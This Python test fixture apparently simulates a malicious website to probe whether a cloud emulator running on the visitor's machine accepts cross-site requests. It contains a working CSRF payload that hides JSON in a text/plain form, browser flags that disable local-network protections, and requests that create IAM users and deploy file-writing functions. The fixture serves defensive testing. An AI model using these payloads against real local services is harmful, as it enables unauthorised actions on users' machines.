"""A page of another site, and what it does to a cloud on the machine of who visits it."""

import base64
import io
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

SITIO = "evil.example"
# Its own DNS would say so, too; and not every browser keeps public pages from loopback addresses.
OPCIONES = (f"--host-resolver-rules=MAP {SITIO} 127.0.0.1", "--disable-features=LocalNetworkAccessChecks")
FIRMA = "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=test/20261125/us-west-2/{}/aws4_request&X-Amz-Signature=0"

# A form of type text/plain sends `name=value`: JSON, with the `=` inside a string that nobody reads.
PAGINA = """<!doctype html><title>Gatitos</title><button>Ver gatitos</button><script>
function formulario(direccion, datos) {
    const forma = document.createElement("form");
    Object.assign(forma, { action: direccion, method: "post", enctype: "text/plain", target: "victima" });
    const campo = document.createElement("input");
    campo.name = JSON.stringify(datos).slice(0, -1) + ', "relleno": "';
    campo.value = '"}';
    forma.append(campo);
    document.body.append(forma);
    return forma;
}
document.querySelector("button").onclick = () => open("about:blank", "victima");
</script>"""


@contextmanager
def sitio_ajeno() -> Iterator[str]:
    """The address of a running site: `/` is its page, `/ve?a=<url>` sends the visitor to another address."""
    servidor = ThreadingHTTPServer(("127.0.0.1", 0), _Sitio)
    hilo = threading.Thread(target=servidor.serve_forever, daemon=True)
    hilo.start()
    try:
        yield f"http://{SITIO}:{servidor.server_port}"
    finally:
        servidor.shutdown()
        servidor.server_close()


def funcion_que_escribe(nombre: str, papel: str, archivo: Path) -> dict[str, object]:
    """CreateFunction's body for code that leaves a file on the machine where it runs."""
    memoria = io.BytesIO()
    with zipfile.ZipFile(memoria, "w") as zip_:
        zip_.writestr(
            "index.py", f"def manejador(evento, contexto):\n    open({str(archivo)!r}, 'w').close()\n"
        )
    return {
        "FunctionName": nombre,
        "Runtime": "python3.11",
        "Role": papel,
        "Handler": "index.manejador",
        "Code": {"ZipFile": base64.b64encode(memoria.getvalue()).decode()},
    }


def crea_usuario(nombre: str) -> str:
    """A query that makes a user: an effect that a mere address has."""
    return f"/?Action=CreateUser&Version=2010-05-08&UserName={nombre}&{FIRMA.format('iam')}"


class _Sitio(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        destino = parse_qs(urlsplit(self.path).query).get("a")
        cuerpo = b"" if destino else PAGINA.encode()
        self.send_response(302 if destino else 200)
        if destino:
            self.send_header("Location", destino[0])
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(cuerpo)))
        self.end_headers()
        self.wfile.write(cuerpo)

    def log_message(self, format: str, *args: object) -> None:
        pass
